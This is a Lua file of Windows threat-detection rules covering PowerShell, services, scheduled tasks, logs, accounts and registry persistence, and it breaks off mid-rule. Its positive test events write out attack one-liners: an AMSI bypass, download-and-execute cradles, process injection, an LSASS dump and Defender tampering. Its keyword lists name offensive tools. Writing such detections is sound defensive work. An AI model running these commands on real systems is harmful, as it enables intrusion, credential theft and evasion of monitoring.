-- Windows event kinds beyond process starts: PowerShell script blocks,
-- service installs, scheduled tasks, log clearing, audit policy, accounts,
-- Sysmon registry, network, image loads, process access, remote threads,
-- pipes, files, WMI subscriptions and share access.  Examples are the
-- EventData of the real events (`_id` picks the event id of the source).
local rules = require "etwlua.rules"
local m = require "etwlua.match"

local function low(s) return (s or ""):lower() end
local function any(s, list)
  for _, n in ipairs(list) do if s:find(n, 1, true) then return n end end
  return nil
end
local F1 = m.finder { "amsiinitfailed", "amsiutils", "amsiscanbuffer", "amsicontext", "amsiopensession" }
local F2 = m.finder { "downloadstring(", "downloaddata(", "downloadfile(", "invoke-webrequest", "iwr ", "net.webclient", "invoke-restmethod", "irm ", "start-bitstransfer", "msxml2.xmlhttp", "winhttp.winhttprequest" }
local F3 = m.finder { "iex", "invoke-expression", "assembly]::load", "start-process", ".invoke(" }
local F4 = m.finder { "invoke-reflectivepeinjection", "invoke-shellcode", "invoke-dllinjection", "reflectivepeinjection" }
local F5 = m.finder { "getdelegateforfunctionpointer", "createthread", "marshal]::copy" }
local F6 = m.finder { "frombase64string", "downloaddata", "readallbytes" }
local F7 = m.finder { "gzipstream", "deflatestream", "io.compression" }
local F8 = m.finder { "iex", "invoke-expression", ".invoke(", "scriptblock]::create" }
local F9 = m.finder { "invoke-mimikatz", "invoke-kerberoast", "invoke-allchecks", "find-localadminaccess", "invoke-sharefinder", "get-domainuser", "get-netuser", "invoke-userhunter", "get-gpppassword", "invoke-dcsync", "invoke-powerdump", "invoke-ninjacopy", "out-minidump", "invoke-smbexec", "invoke-wmiexec", "invoke-thehash", "invoke-tokenmanipulation", "invoke-bypassuac", "invoke-psinject", "get-keystrokes", "invoke-portscan", "invoke-inveigh", "invoke-rubeus", "invoke-sharphound", "powerview", "invoke-empire", "get-domaingroupmember", "add-domainobjectacl", "invoke-credentialinjection", "invoke-eventvwrbypass", "get-domaincomputer", "invoke-wscriptbypassuac", "get-netsession", "get-domaintrust", "sekurlsa::" }
local F10 = m.finder { "-dis", "-exclusion" }
local F11 = m.finder { "clear-eventlog", "remove-eventlog", "limit-eventlog", "globalsession.clearlog", "wevtutil cl", "cachedgrouppolicysettings", "enablescriptblocklogging\",0", "psetwlogprovider", "auditpol /clear" }
local F12 = m.finder { "createremotethread", "queueuserapc", "ntcreatethreadex", "virtualallocex" }
local F13 = m.finder { "minidumpwritedump", "minidump", "out-minidump" }
local F14 = m.finder { "getasynckeystate", "get-keystrokes", "copyfromscreen", "get-timedscreenshot", "get-clipboardcontents" }
local F15 = m.finder { "%comspec%", "cmd /c", "cmd.exe /c", "cmd /q", "cmd.exe /q", "powershell", "pwsh", "mshta", "\\\\.\\pipe\\", "rundll32", "regsvr32", "-encodedcommand", " -enc ", "echo " }
local F16 = m.finder { "\\admin$\\", "\\c$\\", "\\\\127.0.0.1\\" }
local F18 = m.finder { "psexesvc", "remcom", "paexec", "csexec", "winexesvc", "btobto", "mimidrv", "mimikatz", "spoolfool", "winpwnage", "meterpreter", "gruntsvc" }
local F19 = m.finder { "rtcore64", "dbutil_2_3", "gdrv.sys", "procexp152", "aswarpot", "kprocesshacker", "mhyprot", "zam64", "iqvw64e", "ene.sys", "winring0" }
local F21 = m.finder { "mshta", "rundll32", "regsvr32", "wscript", "cscript", "certutil", "bitsadmin", "-enc", "hidden", "http://", "https://", "iex", "downloadstring", "frombase64", "%comspec%" }
local F22 = m.finder { "\\onedrive", "\\google\\update", "\\microsoft\\teams", "\\dropbox" }
local F24 = m.finder { "cmd.exe", "cmd", "powershell", "pwsh" }
local F25 = m.finder { "\\microsoft\\teams\\", "\\onedrive", "\\discord\\", "\\slack\\", "\\zoom\\" }
local F27 = m.finder { "security", "eventlog-system", "sysmon", "powershell", "taskscheduler", "windows defender", "wmi-activity", "bits-client", "terminalservices", "applocker" }
local F28 = m.finder { "\\onedrive\\", "\\microsoft\\teams\\", "\\dropbox\\", "\\google\\" }
local F29 = m.finder { "\\ms-settings\\shell\\open\\command", "\\mscfile\\shell\\open\\command", "\\exefile\\shell\\open\\command", "\\folder\\shell\\open\\command", "\\launcher.systemsettings\\shell\\open\\command", "\\app paths\\control.exe" }
local F30 = m.finder { "cmd", "powershell", "mshta", "rundll32", "\\users\\", "\\temp\\", "\\programdata\\" }
local F32 = m.finder { "dbghelp.dll", "dbgcore.dll", "comsvcs.dll" }
local function hit(found, what) return found ~= nil, found and (what .. found) end
local PS = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]]
local user_dirs = { "\\users\\", "\\appdata\\", "\\temp\\", "\\programdata\\", "\\perflogs\\", "\\$recycle.bin\\",
                    "\\windows\\tasks\\", "\\public\\" }
local user_dirs_f = m.finder(user_dirs)

-- ---- PowerShell script blocks (4104) ------------------------------------

rules.define {
  id = "win.ps_amsi_bypass", platform = "windows", logsource = "ps_script", severity = "critical",
  title = "Script block disables AMSI",
  description = "amsiInitFailed, AmsiUtils, patching AmsiScanBuffer or amsi.dll in memory turns off script scanning.",
  technique = { "T1562.001" },
  falsepositives = { "Security research scripts" },
  match = function(p)
    local s = low(p.script)
    return hit(F1(s)
      or (s:find("amsi.dll", 1, true) and s:find("virtualprotect", 1, true) and "amsi.dll patch"), "AMSI: ")
  end,
  examples = {
    positive = { { ScriptBlockText = [[[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)]],
                   ScriptBlockId = "{a}", MessageNumber = "1", MessageTotal = "1" } },
    negative = { { ScriptBlockText = "Get-Service | Where-Object Status -eq Running", ScriptBlockId = "{b}" } },
  },
}

rules.define {
  id = "win.ps_download_cradle", platform = "windows", logsource = "ps_script", severity = "high",
  title = "Script block downloads and runs code",
  description = "Net.WebClient DownloadString/DownloadData or Invoke-WebRequest fed to Invoke-Expression runs "
    .. "whatever the server sends.",
  technique = { "T1059.001", "T1105" },
  falsepositives = { "Installers such as Chocolatey's bootstrap (iwr ... | iex)" },
  match = function(p)
    local s = low(p.script)
    local dl = F2(s)
    local run = F3(s)
    return dl ~= nil and run ~= nil and s:find("https?://") ~= nil, dl and ("cradle " .. dl)
  end,
  examples = {
    positive = { { ScriptBlockText = [[IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')]] },
                 { ScriptBlockText = [[iwr https://x.test/p.ps1 -UseBasicParsing | iex]] } },
    negative = { { ScriptBlockText = [[Invoke-WebRequest https://intranet/status -OutFile status.json]] },
                 { ScriptBlockText = [[Invoke-Expression $cmd]] } },
  },
}

rules.define {
  id = "win.ps_reflective_injection", platform = "windows", logsource = "ps_script", severity = "critical",
  title = "Script block loads code into memory",
  description = "Assembly::Load of bytes, VirtualAlloc with a delegate to the new memory, or "
    .. "Invoke-ReflectivePEInjection/Invoke-Shellcode run payloads without files.",
  technique = { "T1620", "T1055" },
  falsepositives = { "Scripts that embed helper assemblies" },
  match = function(p)
    local s = low(p.script)
    local f = F4(s)
    if f then return true, f end
    if s:find("virtualalloc", 1, true) and F5(s) then
      return true, "VirtualAlloc and execution of the new memory"
    end
    return (s:find("assembly]::load(", 1, true) and F6(s)) ~= nil,
      "Assembly::Load of bytes"
  end,
  examples = {
    positive = { { ScriptBlockText = [[$m=[System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer((VirtualAlloc 0 4096 0x3000 0x40),[Func])]] },
                 { ScriptBlockText = [[[Reflection.Assembly]::Load([Convert]::FromBase64String($b))]] } },
    negative = { { ScriptBlockText = [[[Reflection.Assembly]::LoadWithPartialName('System.Drawing')]] },
                 { ScriptBlockText = [[Get-Process | Sort-Object CPU]] } },
  },
}

rules.define {
  id = "win.ps_compressed_payload", platform = "windows", logsource = "ps_script", severity = "high",
  title = "Script block decompresses a base64 payload and runs it",
  description = "FromBase64String into GzipStream/DeflateStream then Invoke-Expression is the stager shape of "
    .. "Empire, Cobalt Strike and msfvenom.",
  technique = { "T1027", "T1140", "T1059.001" },
  falsepositives = { "Packed admin scripts" },
  match = function(p)
    local s = low(p.script)
    return s:find("frombase64string", 1, true) ~= nil and F7(s) ~= nil
      and F8(s) ~= nil
  end,
  examples = {
    positive = { { ScriptBlockText = [[IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sI...'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()]] } },
    negative = { { ScriptBlockText = [[[Convert]::FromBase64String($cert)]] },
                 { ScriptBlockText = [[Compress-Archive -Path C:\logs -DestinationPath C:\logs.zip]] } },
  },
}

rules.define {
  id = "win.ps_offensive_framework", platform = "windows", logsource = "ps_script", severity = "critical",
  title = "Script block of a known offensive PowerShell framework",
  description = "Function names of Mimikatz, PowerView, PowerUp, Empire, Nishang, Invoke-TheHash and PowerSploit "
    .. "in script-block logs.",
  technique = { "T1059.001", "T1003", "T1087.002" },
  falsepositives = { "Red-team exercises" },
  match = function(p)
    local s = low(p.script)
    return hit(F9(s), "function ")
  end,
  examples = {
    positive = { { ScriptBlockText = [[Invoke-Mimikatz -Command '"sekurlsa::logonpasswords"']] },
                 { ScriptBlockText = [[Get-DomainUser -SPN | Select samaccountname]] } },
    negative = { { ScriptBlockText = [[Get-ADUser -Filter * -Properties mail]] },
                 { ScriptBlockText = [[Write-Output "hello"]] } },
  },
}

rules.define {
  id = "win.ps_defense_tampering", platform = "windows", logsource = "ps_script", severity = "high",
  title = "Script block switches off Defender or logging",
  description = "Set-MpPreference -Disable*, exclusions, Clear-EventLog, ClearLog, and script-block logging "
    .. "disabled through the cached group-policy settings.",
  technique = { "T1562.001", "T1562.002", "T1070.001" },
  falsepositives = { "Golden-image build scripts" },
  match = function(p)
    local s = low(p.script)
    if s:find("mppreference", 1, true) and F10(s) then return true, "Defender preference" end
    return hit(F11(s),
      "tampering: ")
  end,
  examples = {
    positive = { { ScriptBlockText = [[Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true]] },
                 { ScriptBlockText = [[Clear-EventLog -LogName Security,System]] },
                 { ScriptBlockText = [[$GPF=[ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','N'+'onPublic,Static')]] } },
    negative = { { ScriptBlockText = [[Get-MpPreference | Select ExclusionPath]] },
                 { ScriptBlockText = [[Get-EventLog -LogName System -Newest 10]] } },
  },
}

rules.define {
  id = "win.ps_remote_process_injection", platform = "windows", logsource = "ps_script", severity = "critical",
  title = "Script block writes into another process",
  description = "OpenProcess, VirtualAllocEx, WriteProcessMemory and CreateRemoteThread from PowerShell inject "
    .. "code into another process.",
  technique = { "T1055" },
  falsepositives = { "None known" },
  match = function(p)
    local s = low(p.script)
    return s:find("writeprocessmemory", 1, true) ~= nil and F12(s) ~= nil
  end,
  examples = {
    positive = { { ScriptBlockText = [[$h=$k::OpenProcess(0x1F0FFF,$false,$pid);$a=$k::VirtualAllocEx($h,0,$sc.Length,0x3000,0x40);$k::WriteProcessMemory($h,$a,$sc,$sc.Length,[ref]0);$k::CreateRemoteThread($h,0,0,$a,0,0,0)]] } },
    negative = { { ScriptBlockText = [[Get-Process -Id $pid | Stop-Process]] } },
  },
}

rules.define {
  id = "win.ps_lsass_dump", platform = "windows", logsource = "ps_script", severity = "critical",
  title = "Script block dumps LSASS",
  description = "MiniDumpWriteDump or comsvcs MiniDump aimed at lsass from PowerShell.",
  technique = { "T1003.001" },
  falsepositives = { "None known" },
  match = function(p)
    local s = low(p.script)
    return s:find("lsass", 1, true) ~= nil and F13(s) ~= nil
  end,
  examples = {
    positive = { { ScriptBlockText = [[rundll32 C:\windows\system32\comsvcs.dll, MiniDump (Get-Process lsass).id C:\t\l.dmp full]] } },
    negative = { { ScriptBlockText = [[Get-Process lsass | Select WorkingSet]] } },
  },
}

rules.define {
  id = "win.ps_keylogger_or_screen_capture", platform = "windows", logsource = "ps_script", severity = "high",
  title = "Script block logs keys, the clipboard or the screen",
  description = "GetAsyncKeyState/GetKeyState loops, Get-Clipboard polling and CopyFromScreen are collection "
    .. "modules of post-exploitation frameworks.",
  technique = { "T1056.001", "T1113", "T1115" },
  falsepositives = { "Accessibility or screenshot utilities written in PowerShell" },
  match = function(p)
    local s = low(p.script)
    return hit(F14(s), "collection: ")
  end,
  examples = {
    positive = { { ScriptBlockText = [[$state = $api::GetAsyncKeyState($c); if ($state -eq -32767) { $log += [char]$c }]] },
                 { ScriptBlockText = [[$g.CopyFromScreen($b.Location,[Drawing.Point]::Empty,$b.Size)]] } },
    negative = { { ScriptBlockText = [[Add-Type -AssemblyName System.Drawing; $img = [Drawing.Image]::FromFile($f)]] } },
  },
}

-- ---- service installs (7045, 4697) ----------------------------------------

rules.define {
  id = "win.service_install_shell", platform = "windows", logsource = "service_install", severity = "critical",
  title = "Service installed that runs a shell command",
  description = "A service whose image path is cmd /c, %COMSPEC%, PowerShell, mshta or an echo to a pipe is "
    .. "remote execution (PsExec clones, Impacket, Metasploit, getsystem), not a service.",
  technique = { "T1543.003", "T1569.002" },
  falsepositives = { "Badly written installers wrapping batch files" },
  match = function(p)
    local i = low(p.image_path)
    return hit(F15(i), "image path ")
  end,
  examples = {
    positive = { { ServiceName = "WinPwnage", ImagePath = [[%COMSPEC% /c ping -n 1 127.0.0.1 >nul && echo 'WinPwnage' > \\.\pipe\WinPwnagePipe]],
                   ServiceType = "user mode service", StartType = "demand start", AccountName = "LocalSystem" },
                 { _id = 4697, ServiceName = "x", ServiceFileName = [[cmd.exe /c powershell -nop -w hidden -enc SQBFAFgA]],
                   SubjectUserName = "admin", SubjectDomainName = "CORP" } },
    negative = { { ServiceName = "Spooler", ImagePath = [[C:\Windows\System32\spoolsv.exe]], StartType = "auto start" },
                 { _id = 4697, ServiceName = "AppSvc", ServiceFileName = [["C:\Program Files\App\svc.exe" -service]] } },
  },
}

rules.define {
  id = "win.service_install_suspicious_path", platform = "windows", logsource = "service_install", severity = "high",
  title = "Service installed from a share, a user folder or as a random name in Windows",
  description = "Services run from \\\\HOST\\ADMIN$, Users, Temp or ProgramData, or an 8-character random .exe "
    .. "straight under C:\\Windows (Impacket psexec), are lateral movement or persistence.",
  technique = { "T1543.003", "T1021.002" },
  falsepositives = { "Per-user updaters that install services from ProgramData" },
  match = function(p)
    local i = low(p.image_path)
    local f = F16(i) or user_dirs_f(i)
    if f then return true, "image path under " .. f end
    -- Impacket names its service binary with 8 random letters of mixed case
    local base = (p.image_path or ""):match("^%%[Ss][Yy][Ss][Tt][Ee][Mm][Rr][Oo][Oo][Tt]%%\\(%a+)%.exe$")
      or (p.image_path or ""):match("^[Cc]:\\[Ww][Ii][Nn][Dd][Oo][Ww][Ss]\\(%a+)%.exe$")
    return base ~= nil and #base == 8 and base:find("%l") ~= nil and base:find("%u%l*%u") ~= nil,
      "random image name " .. tostring(p.image_path)
  end,
  examples = {
    positive = { { ServiceName = "KkMg", ImagePath = [[%systemroot%\hjYdCPbM.exe]], StartType = "demand start" },
                 { ServiceName = "upd", ImagePath = [[C:\Users\Public\svc.exe]] } },
    negative = { { ServiceName = "wuauserv", ImagePath = [[%systemroot%\system32\svchost.exe -k netsvcs -p]] },
                 { ServiceName = "Explorer", ImagePath = [[C:\Windows\explorer.exe]] } },
  },
}

rules.define {
  id = "win.service_install_known_tool", platform = "windows", logsource = "service_install", severity = "high",
  title = "Service of a remote-execution or credential tool installed",
  description = "PSEXESVC, RemComSvc, PAExec, csexec, winexesvc, BTOBTO (smbexec) and mimidrv are the services of "
    .. "well-known lateral-movement and credential tools.",
  technique = { "T1569.002", "T1543.003" },
  falsepositives = { "Administrators using PsExec" },
  match = function(p)
    local s = low(p.service_name) .. " " .. low(p.image_path)
    return hit(F18(s), "tool ")
  end,
  examples = {
    positive = { { ServiceName = "PSEXESVC", ImagePath = [[%SystemRoot%\PSEXESVC.exe]] },
                 { _id = 4697, ServiceName = "mimidrv", ServiceFileName = [[C:\t\mimidrv.sys]] } },
    negative = { { ServiceName = "Dnscache", ImagePath = [[%SystemRoot%\system32\svchost.exe -k NetworkService]] } },
  },
}

rules.define {
  id = "win.service_install_vulnerable_driver", platform = "windows", logsource = "service_install", severity = "high",
  title = "Kernel driver service from a user folder or a known vulnerable driver",
  description = "Loading RTCore64, DBUtil, gdrv, procexp152 or any driver from a user-writable folder is a "
    .. "bring-your-own-vulnerable-driver step towards killing EDR.",
  technique = { "T1068", "T1543.003" },
  falsepositives = { "Hardware tools (MSI Afterburner installs RTCore64)" },
  match = function(p)
    local i = low(p.image_path)
    if not i:find("%.sys") then return false end
    return hit(F19(i) or user_dirs_f(i), "driver ")
  end,
  examples = {
    positive = { { ServiceName = "RTCore64", ImagePath = [[C:\Users\a\AppData\Local\Temp\RTCore64.sys]],
                   ServiceType = "kernel mode driver" } },
    negative = { { ServiceName = "disk", ImagePath = [[System32\drivers\disk.sys]], ServiceType = "kernel mode driver" } },
  },
}

-- ---- scheduled tasks (4698, 106) -----------------------------------------

rules.define {
  id = "win.task_created_script_payload", platform = "windows", logsource = "task_created", severity = "high",
  title = "Scheduled task runs a script host, LOLBin or encoded PowerShell",
  description = "A task whose action is PowerShell with -enc/hidden/a URL, mshta, rundll32, regsvr32 or a script "
    .. "host is persistence or remote execution.",
  technique = { "T1053.005" },
  falsepositives = { "Management agents scheduling PowerShell maintenance" },
  match = function(p)
    local a = low(p.action)
    if a == "" then return false end
    local f = F21(a)
    return f ~= nil, "action " .. tostring(p.action)
  end,
  examples = {
    positive = { { TaskName = [[\Updater]], SubjectUserName = "bob", SubjectDomainName = "CORP",
                   TaskContent = [[<?xml version="1.0" encoding="UTF-16"?><Task><Actions Context="Author"><Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -enc SQBFAFgA</Arguments></Exec></Actions></Task>]] } },
    negative = { { TaskName = [[\Microsoft\Windows\Defrag\ScheduledDefrag]],
                   TaskContent = [[<Task><Actions><Exec><Command>%windir%\system32\defrag.exe</Command><Arguments>-c -h -o</Arguments></Exec></Actions></Task>]] } },
  },
}

rules.define {
  id = "win.task_created_user_path", platform = "windows", logsource = "task_created", severity = "medium",
  title = "Scheduled task runs a program from a user folder or a share",
  description = "Tasks whose command lives in Users, AppData, Temp, ProgramData or a UNC path are a favourite "
    .. "persistence of malware.",
  technique = { "T1053.005" },
  falsepositives = { "Per-user updaters (Google, Teams, OneDrive) install such tasks" },
  match = function(p)
    local c = low(p.command)
    if c == "" or F22(c) then return false end
    return (user_dirs_f(c) or c:find("^\\\\")) ~= nil, "command " .. tostring(p.command)
  end,
  examples = {
    positive = { { TaskName = [[\SysUpd]], TaskContent = [[<Task><Actions><Exec><Command>C:\Users\Public\upd.exe</Command></Exec></Actions></Task>]] } },
    negative = { { TaskName = [[\OneDrive Standalone Update Task]],
                   TaskContent = [[<Task><Actions><Exec><Command>%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe</Command></Exec></Actions></Task>]] },
                 { TaskName = [[\Backup]], TaskContent = [[<Task><Actions><Exec><Command>C:\Program Files\Backup\b.exe</Command></Exec></Actions></Task>]] } },
  },
}

rules.define {
  id = "win.task_created_system_shell", platform = "windows", logsource = "task_created", severity = "medium",
  title = "Scheduled task runs a shell as SYSTEM",
  description = "A task registered to run cmd or PowerShell as SYSTEM (S-1-5-18) is a common escalation and "
    .. "persistence step.",
  technique = { "T1053.005", "T1078.003" },
  falsepositives = { "Software deployment tools" },
  match = function(p)
    local r, c = low(p.run_as), low(p.command)
    return (r == "s-1-5-18" or r == "system" or r:find("nt authority\\system", 1, true)) and
      F24(c) ~= nil and (c:find("cmd") or c:find("powershell") or c:find("pwsh")) ~= nil
  end,
  examples = {
    positive = { { TaskName = [[\x]], TaskContent = [[<Task><Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals><Actions><Exec><Command>cmd.exe</Command><Arguments>/c C:\t\a.bat</Arguments></Exec></Actions></Task>]] } },
    negative = { { TaskName = [[\y]], TaskContent = [[<Task><Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals><Actions><Exec><Command>C:\Program Files\A\a.exe</Command></Exec></Actions></Task>]] } },
  },
}

-- ---- log clearing and audit policy ---------------------------------------

rules.define {
  id = "win.security_log_cleared", platform = "windows", logsource = "log_cleared", severity = "high",
  title = "Security log cleared",
  description = "Event 1102: someone cleared the Security log, the usual way to hide logons and process starts.",
  technique = { "T1070.001" },
  falsepositives = { "Lab resets, and recordings that start by clearing the log: most OTRF and EVTX-ATTACK-SAMPLES "
                       .. "captures open with the author's own 1102" },
  match = function(p) return p.event_id == 1102, "cleared by " .. tostring(p.user) end,
  examples = {
    positive = { { _id = 1102, SubjectUserName = "user01", SubjectDomainName = "EXAMPLE", SubjectUserSid = "S-1-5-21-1-2-3-1106" } },
    negative = { { _id = 104, SubjectUserName = "user01", Channel = "Application" } },
  },
}

rules.define {
  id = "win.event_log_channel_cleared", platform = "windows", logsource = "log_cleared", severity = "medium",
  title = "Event log channel cleared",
  description = "Event 104: a log such as System, Sysmon or PowerShell was cleared.",
  technique = { "T1070.001" },
  falsepositives = { "Admins clearing noisy application logs, and recordings that start by clearing their logs (the "
                       .. "OTRF captures)" },
  match = function(p) return p.event_id == 104, "channel " .. tostring(p.channel) end,
  examples = {
    positive = { { _id = 104, SubjectUserName = "bob", SubjectDomainName = "CORP", Channel = "Microsoft-Windows-Sysmon/Operational" } },
    negative = { { _id = 1102, SubjectUserName = "bob" } },
  },
}

rules.define {
  id = "win.audit_policy_removed", platform = "windows", logsource = "audit_policy", severity = "high",
  title = "Auditing removed from a policy subcategory",
  description = "Event 4719 with 'Success removed' (%%8448) or 'Failure removed' (%%8450): auditing was turned "
    .. "off, whatever tool did it.",
  technique = { "T1562.002" },
  falsepositives = { "Group-policy changes by administrators" },
  match = function(p)
    local c = low(p.changes)
    return (c:find("%%8448", 1, true) or c:find("%%8450", 1, true)) ~= nil, "changes " .. tostring(p.changes)
  end,
  examples = {
    positive = { { SubjectUserName = "admin", SubjectDomainName = "CORP", CategoryId = "%%8274", SubcategoryId = "%%12544",
                   SubcategoryGuid = "{0CCE9215-69AE-11D9-BED3-505054503030}", AuditPolicyChanges = "%%8448, %%8450" } },
    negative = { { SubjectUserName = "DC1$", CategoryId = "%%8273", SubcategoryGuid = "{0CCE9215-69AE-11D9-BED3-505054503030}",
                   AuditPolicyChanges = "%%8449, %%8451" } },
  },
}

-- ---- accounts ----------------------------------------------------------

rules.define {
  id = "win.member_added_to_admin_group", platform = "windows", logsource = "account_change", severity = "medium",
  title = "Account added to Administrators or a domain admin group",
  description = "4732/4728/4756 adding a member to Administrators, Domain Admins, Enterprise Admins or Schema Admins.",
  technique = { "T1098" },
  falsepositives = { "Administrators granting rights through change control" },
  match = function(p)
    if p.event_id ~= 4732 and p.event_id ~= 4728 and p.event_id ~= 4756 then return false end
    local sid, g = low(p.target_sid), low(p.target_user)
    local admin = sid == "s-1-5-32-544" or sid:find("%-51[289]$") ~= nil or g == "administrators" or g == "domain admins"
      or g == "enterprise admins" or g == "schema admins"
    return admin,
      "member " .. tostring(p.member_sid or p.member_name) .. " added to " .. tostring(p.target_user)
  end,
  examples = {
    positive = { { _id = 4732, MemberName = "-", MemberSid = "S-1-5-21-1-2-3-501", TargetUserName = "Administrators",
                   TargetDomainName = "Builtin", TargetSid = "S-1-5-32-544", SubjectUserName = "IEUser" },
                 { _id = 4728, MemberName = "CN=eve,CN=Users,DC=corp", MemberSid = "S-1-5-21-1-2-3-1120",
                   TargetUserName = "Domain Admins", TargetSid = "S-1-5-21-1-2-3-512" } },
    negative = { { _id = 4732, MemberSid = "S-1-5-21-1-2-3-1001", TargetUserName = "Remote Desktop Users",
                   TargetSid = "S-1-5-32-555" },
                 { _id = 4720, TargetUserName = "Administrators", TargetSid = "S-1-5-21-1-2-3-1200" } },
  },
}

rules.define {
  id = "win.hidden_account_or_guest_enabled", platform = "windows", logsource = "account_change", severity = "high",
  title = "User account ending in $ created, or Guest enabled",
  description = "4720 for a user name ending in $ hides it from net user; 4722 enabling Guest (RID 501) opens a "
    .. "password-less account.",
  technique = { "T1136.001", "T1564.002" },
  falsepositives = { "None known (computer accounts are not created through 4720)" },
  match = function(p)
    local name = p.sam_account_name or p.target_user or ""
    if p.event_id == 4720 then return name:find("%$$") ~= nil, "created " .. name end
    if p.event_id == 4722 then return low(p.target_sid):find("%-501$") ~= nil, "enabled " .. name end
    return false
  end,
  examples = {
    positive = { { _id = 4720, TargetUserName = "support$", SamAccountName = "support$", TargetSid = "S-1-5-21-1-2-3-1005" },
                 { _id = 4722, TargetUserName = "Guest", TargetSid = "S-1-5-21-1-2-3-501" } },
    negative = { { _id = 4720, TargetUserName = "alice", SamAccountName = "alice", TargetSid = "S-1-5-21-1-2-3-1006" },
                 { _id = 4722, TargetUserName = "bob", TargetSid = "S-1-5-21-1-2-3-1007" } },
  },
}

-- ---- Sysmon registry (12, 13, 14) ----------------------------------------

local launchers = { "cmd", "powershell", "pwsh", "mshta", "rundll32", "regsvr32", "wscript", "cscript", "http",
                    "certutil", "bitsadmin", "%comspec%", "\\users\\public", "\\appdata\\", "\\temp\\", "\\programdata\\" }
local launchers_f = m.finder(launchers)

rules.define {
  id = "win.reg_run_key_suspicious", platform = "windows", logsource = "registry_set", severity = "high",
  title = "Run key value starts a script host, LOLBin or user-folder program",
  description = "A Run/RunOnce/Policies Explorer Run value pointing at PowerShell, mshta, rundll32 or a program in a "
    .. "user folder is the commonest persistence of all.",
  technique = { "T1547.001" },
  falsepositives = { "Per-user apps (Teams, OneDrive, Discord) in AppData are excluded; others may appear" },
  match = function(p)
    local t = low(p.target_object)
    if not (t:find("\\currentversion\\run", 1, true) or t:find("\\policies\\explorer\\run", 1, true)) then return false end
    local d = low(p.details)
    if F25(d) then return false end
    return hit(launchers_f(d), "value runs ")
  end,
  examples = {
    positive = { { _id = 13, EventType = "SetValue", Image = PS,
                   TargetObject = [[HKU\S-1-5-21-1-2-3-1000\Software\Microsoft\Windows\CurrentVersion\Run\Updater]],
                   Details = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -enc SQBFAFgA]] } },
    negative = { { _id = 13, EventType = "SetValue", Image = [[C:\Program Files\Vendor\setup.exe]],
                   TargetObject = [[HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Vendor]],
                   Details = [["C:\Program Files\Vendor\tray.exe"]] },
                 { _id = 13, TargetObject = [[HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\com.squirrel.Teams.Teams]],
                   Details = [[C:\Users\a\AppData\Local\Microsoft\Teams\Update.exe --processStart "Teams.exe"]] } },
  },
}

rules.define {
  id = "win.reg_ifeo_silent_exit", platform = "windows", logsource = "registry_set", severity = "high",
  title = "IFEO Debugger or SilentProcessExit monitor set",
  description = "Image File Execution Options Debugger, GlobalFlag 0x200 with SilentProcessExit MonitorProcess, run "
    .. "a program whenever the target starts or exits (accessibility backdoors, persistence).",
  technique = { "T1546.012", "T1546.008" },
  falsepositives = { "Developers using gflags or Process Explorer's Replace Task Manager" },
  match = function(p)
    local t = low(p.target_object)
    if t:find("\\taskmgr.exe\\debugger", 1, true) and low(p.details):find("procexp", 1, true) then return false end
    return (t:find("image file execution options\\[^\\]+\\debugger$") or t:find("silentprocessexit\\[^\\]+\\monitorprocess$")
      or (t:find("image file execution options\\[^\\]+\\globalflag$") and low(p.details):find("0x00000200", 1, true)))
      ~= nil, "sets " .. tostring(p.target_object)
  end,
  examples = {
    positive = { { _id = 13, EventType = "SetValue", Image = [[C:\Windows\system32\reg.exe]],
                   TargetObject = [[HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger]],
                   Details = [[C:\windows\system32\cmd.exe]] },
                 { _id = 13, TargetObject = [[HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\notepad.exe\MonitorProcess]],
                   Details = [[C:\t\a.exe]] } },
    negative = { { _id = 13, TargetObject = [[HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\app.exe\MitigationOptions]],
                   Details = "Binary Data" } },
  },
}

rules.define {
  id = "win.reg_winlogon_helper", platform = "windows", logsource = "registry_set", severity = "high",
  title = "Winlogon Shell, Userinit or Notify changed",
  description = "A Winlogon Shell other than explorer.exe or a Userinit with extra programs runs them at every logon.",
  technique = { "T1547.004" },
  falsepositives = { "Kiosk shells" },
  match = function(p)
    local t, d = low(p.target_object), low(p.details):gsub("^%s+", ""):gsub("[%s,]+$", "")
    if not t:find("\\currentversion\\winlogon\\", 1, true) then return false end
    if t:find("\\shell$") then return d ~= "explorer.exe" and d ~= "" , "shell " .. d end
    if t:find("\\userinit$") then return not d:find("^[%a]:\\windows\\system32\\userinit%.exe$") and d ~= "userinit.exe", "userinit " .. d end
    return t:find("\\notify\\") ~= nil or t:find("\\taskman$") ~= nil
  end,
  examples = {
    positive = { { _id = 13, TargetObject = [[HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell]],
                   Details = [[explorer.exe, C:\t\a.exe]], Image = [[C:\Windows\regedit.exe]] },
                 { _id = 13, TargetObject = [[HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit]],
                   Details = [[C:\Windows\system32\userinit.exe,C:\Users\Public\x.exe,]] } },
    negative = { { _id = 13, TargetObject = [[HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit]],
                   Details = [[C:\Windows\system32\userinit.exe,]] },
                 { _id = 13, TargetObject = [[HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell]],
                   Details = "explorer.exe" } },
  },
}

rules.define {
  id = "win.reg_logging_disabled", platform = "windows", logsource = "registry_event", severity = "high",
